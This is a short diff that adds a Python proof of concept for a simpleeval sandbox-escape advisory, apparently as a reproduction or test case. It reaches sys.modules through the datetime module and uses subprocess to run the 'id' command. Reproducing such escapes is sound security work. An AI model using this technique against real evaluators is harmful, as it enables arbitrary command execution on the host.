@@ -1,0 +1,4 @@
+# Source: simpleeval CVE-2026-32640 / https://osv.dev/vulnerability/GHSA-44vg-5wv2-h2hg (modules leak os/sys via attributes, e.g. statistics.sys) (same class: datetime re-exports sys)
+import datetime as dt
+mods = dt.sys.modules
+print(mods["subprocess"].run(["id"]))
